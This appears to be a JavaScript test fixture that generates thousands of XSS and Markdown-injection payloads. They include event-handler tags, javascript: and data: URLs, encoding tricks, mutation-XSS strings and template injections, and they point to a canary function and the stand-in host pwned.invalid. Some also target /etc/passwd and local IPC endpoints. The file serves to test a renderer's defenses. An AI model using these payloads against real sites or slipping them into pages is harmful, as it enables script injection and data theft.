/**
 * Messages that try to become a part of the page: every way of writing a script, of leading the page
 * away, of fetching something and of breaking out of what they are put into, each marked with a
 * number. A page that draws them must call neither `pwned` nor the network.
 *
 * The list is made, not collected: tags × handlers × ways of writing them, addresses × disguises ×
 * the places where Markdown takes an address, pieces that parsers read differently, and mixtures.
 */

/** What a payload calls; whoever draws the messages defines it and counts. */
const CALL = "window.pwned&&window.pwned(N)";
/** Nothing answers there; whoever draws the messages sees that nothing is asked for. */
const ELSEWHERE = "https://pwned.invalid/N";

const TAGS = [
  "script",
  "img",
  "svg",
  "math",
  "iframe",
  "object",
  "embed",
  "video",
  "audio",
  "source",
  "body",
  "details",
  "marquee",
  "input",
  "button",
  "form",
  "link",
  "meta",
  "base",
  "style",
  "template",
  "noscript",
  "xmp",
  "textarea",
  "title",
  "a",
  "area",
  "frameset",
  "table",
  "select",
  "dialog",
  "portal",
  "animate",
  "foreignObject",
  "mglyph",
  "custom-tag",
];

const ATTRIBUTES = [
  `onerror=${CALL} src=x`,
  `onload=${CALL}`,
  `onfocus=${CALL} autofocus tabindex=0`,
  `ontoggle=${CALL} open`,
  `onbegin=${CALL}`,
  `onanimationstart=${CALL} style="animation:spin 1s"`,
  `onmouseover=${CALL} style="position:fixed;inset:0"`,
  `src=${ELSEWHERE}`,
  `src="data:text/html,<script>${CALL}</script>"`,
  `srcdoc="<script>${CALL}</script>"`,
  `href="javascript:${CALL}" xlink:href="javascript:${CALL}"`,
  `style="background:url(${ELSEWHERE})"`,
  `http-equiv=refresh content="0;url=${ELSEWHERE}"`,
  `action="javascript:${CALL}" formaction="javascript:${CALL}"`,
  `is=x id=app name=app`,
];

/** Ways of writing a tag that parsers have disagreed about. */
/** @type {((tag: string, attributes: string) => string)[]} */
const TAG_FORMS = [
  (tag, attributes) => `<${tag} ${attributes}>${CALL}</${tag}>`,
  (tag, attributes) => `<${tag.toUpperCase()}/${attributes.replaceAll(" ", "/")}/>`,
  (tag, attributes) => `<${tag}\n${attributes}\n`,
  (tag, attributes) => `<<${tag} ${attributes}>>`,
  (tag, attributes) => `&lt;${tag} ${attributes}&gt;`,
  (tag, attributes) => `**<${tag} ${attributes}>**\n\n> <${tag} ${attributes}>`,
];

/** Addresses that must lead nowhere. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=`,
  "file:///etc/passwd",
  "blob:https://pwned.invalid/N",
  "tauri://localhost/index.html?N",
  "ipc://localhost/resend_all",
  "http://ipc.localhost/send_chat",
  "filesystem:https://pwned.invalid/N",
  "about:blank",
  "view-source:https://pwned.invalid/N",
  "openclaw://pwned",
  "//pwned.invalid/N",
  "\\\\pwned.invalid\\N",
  "/pwned/N",
  "#pwned",
  "?pwned=N",
  ELSEWHERE,
  "https://localhost@pwned.invalid/N",
  "ws://pwned.invalid/N",
];

/** Ways of hiding what an address is. */
/** @type {((address: string) => string)[]} */
const DISGUISES = [
  (address) => address,
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => address.replace(":", "&colon;"),
  (address) => address.replace(":", "&#58;"),
  (address) => address.replace(":", "&#x3A;"),
  (address) => address.replace(":", "\\:"),
  (address) => address.replace(/^(.{4})/, "$1&Tab;"),
  (address) => address.replace(/^(.{4})/, "$1&NewLine;"),
  (address) => address.replace(/^(.{3})/, "$1\t"),
  (address) => [...address].map((letter) => `&#${letter.charCodeAt(0)};`).join(""),
  (address) => address.replace(/^./, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (address) => `\u202E${address}`,
];

/** Where Markdown takes an address. */
/** @type {((address: string) => string)[]} */
const PLACES = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `![picture](<${address}> "title")`,
  (address) => `<${address}>`,
  (address) => `[click][a]\n\n[a]: ${address}`,
  (address) => `![picture][a]\n\n[a]: <${address}>`,
];

/** Pieces that were read in two ways somewhere: what is text to one parser is a tag to another. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${CALL}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${CALL}//"></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CALL}></style></annotation-xml></math>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${CALL}>">`,
  `<textarea></textarea><img src=x onerror=${CALL}></textarea>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!><img src=x onerror=${CALL}>`,
  `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${ELSEWHERE}">]><x>&e;</x>`,
  `<a href="x" title="\`"><img src=x onerror=${CALL}>\`</a>`,
  `<svg><animate attributeName=href values=javascript:${CALL} /><a id=x><rect/></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${CALL}</script></svg>#x"></svg>`,
  `<svg><set attributeName=onload to=${CALL}></svg>`,
  `<style>@import "${ELSEWHERE}"; *{background:url(${ELSEWHERE})}</style>`,
  `<link rel=stylesheet href=${ELSEWHERE}><link rel=prefetch href=${ELSEWHERE}>`,
  `<base href="https://pwned.invalid/"><a href=x>y</a>`,
];

/** What Markdown can put such a piece into. */
/** @type {((inner: string) => string)[]} */
const WRAPPINGS = [
  (inner) => inner,
  (inner) => `> ${inner}`,
  (inner) => `- ${inner}`,
  (inner) => `1. [ ] ${inner}`,
  (inner) => `# ${inner}`,
  (inner) => `| ${inner} |\n|---|\n| ${inner} |`,
  (inner) => `\`\`\`html ${inner}\n${inner}\n\`\`\``,
  (inner) => `\`\`\`"><img src=x onerror=${CALL}>\n${inner}`,
  (inner) => `\`${inner}\``,
  (inner) => `[^1]\n\n[^1]: ${inner}`,
  (inner) => `[^"><img src=x onerror=${CALL}>]\n\n[^"><img src=x onerror=${CALL}>]: ${inner}`,
  (inner) => `[${inner}](https://example.org "${inner.replaceAll('"', "'")}")`,
  (inner) => `![${inner}](https://pwned.invalid/N.png)`,
  (inner) => `***${inner}***`,
  (inner) => `~~${inner}~~`,
  (inner) => `${inner}\n===`,
  (inner) => `    ${inner}`,
  (inner) => `\\${inner}`,
];

/** Names that objects have already, and what templates and styles could take for their own. */
const ODD = [
  "[a][__proto__]\n\n[__proto__]: https://example.org/N",
  "[^constructor] [^__proto__]\n\n[^constructor]: x\n\n[^__proto__]: y",
  "```__proto__\nx\n```",
  "```constructor\nx\n```",
  "```toString hasOwnProperty\nx\n```",
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  "{@html '<img src=x onerror=pwned(N)>'}",
  "</script><script>pwned(N)</script>",
  "\u2028<script>pwned(N)</script>\u2029",
  "\u0000<script>pwned(N)</script>",
  "&#0;&#xD800;&#x110000;<script>pwned(N)</script>",
  "<scr\u0000ipt>pwned(N)</scr\u0000ipt>",
  "＜script＞pwned(N)＜/script＞",
  "+ADw-script+AD4-pwned(N)+ADw-/script+AD4-",
  '[x](https://example.org/ "onmouseover=pwned(N)")',
  "[x](https://example.org/%22onmouseover=pwned(N))",
  "[x](https://example.org/'><img/src=x/onerror=pwned(N)>)",
  "www.pwned.invalid/<img/src=x/onerror=pwned(N)>",
  "pwned@pwned.invalid?attach=/etc/passwd",
  "<mailto:x@pwned.invalid?attach=/etc/passwd>",
];

/**
 * Returns the messages, each with its number in place of every N that stands for one, and with
 * labels of its own, so that they can stand in one text.
 *
 * @returns {string[]}
 */
export function hostileMessages() {
  /** @type {string[]} */
  const messages = [...ODD];
  TAGS.forEach((tag, tagAt) => {
    ATTRIBUTES.forEach((attributes, at) => {
      // Each pair in two of the forms, so that every form meets every tag and attribute.
      for (const form of [tagAt + at, tagAt + 2 * at + 3]) {
        messages.push(TAG_FORMS[form % TAG_FORMS.length](tag, attributes));
      }
    });
  });
  for (const address of ADDRESSES) {
    DISGUISES.forEach((disguise, at) => {
      PLACES.forEach((place, placeAt) => {
        if ((at + placeAt) % 2 === 0 || at < 3) messages.push(place(disguise(address)));
      });
    });
  }
  for (const mutation of MUTATIONS) for (const wrap of WRAPPINGS) messages.push(wrap(mutation));
  return [...new Set(messages)].map((message, index) =>
    message
      .replace(/pwned\(N\)/g, `pwned(${index})`)
      .replace(/(invalid|pwned)([/\\?=]*)N/g, `$1$2${index}`)
      .replaceAll("[a]", `[a${index}]`)
      .replaceAll("[^1]", `[^n${index}]`),
  );
}

/**
 * Returns the messages in few texts: what is left open at the end of one swallows no other.
 *
 * @param {readonly string[]} messages
 * @param {number} most how many go into one text
 * @returns {string[]}
 */
function inFewTexts(messages, most) {
  /** @type {string[][]} */
  const texts = [];
  const isOpen = (/** @type {string} */ message) => message.split("```").length % 2 === 0;
  const closed = messages.filter((message) => !isOpen(message));
  for (let at = 0; at < closed.length; at += most) texts.push(closed.slice(at, at + most));
  messages.filter(isOpen).forEach((message, index) => texts[index % texts.length].push(message));
  return texts.map((text) => text.join("\n\n"));
}

// `node hostile.mjs <most> <n>` takes every nth message and prints how many those are, and the texts, for tests in
// other languages.
if (globalThis.process?.argv[1] === import.meta.filename) {
  const [most, n] = globalThis.process.argv.slice(2).map(Number);
  const messages = hostileMessages().filter((_, index) => index % n === 0);
  const told = { count: messages.length, texts: inFewTexts(messages, most) };
  globalThis.process.stdout.write(JSON.stringify(told));
}
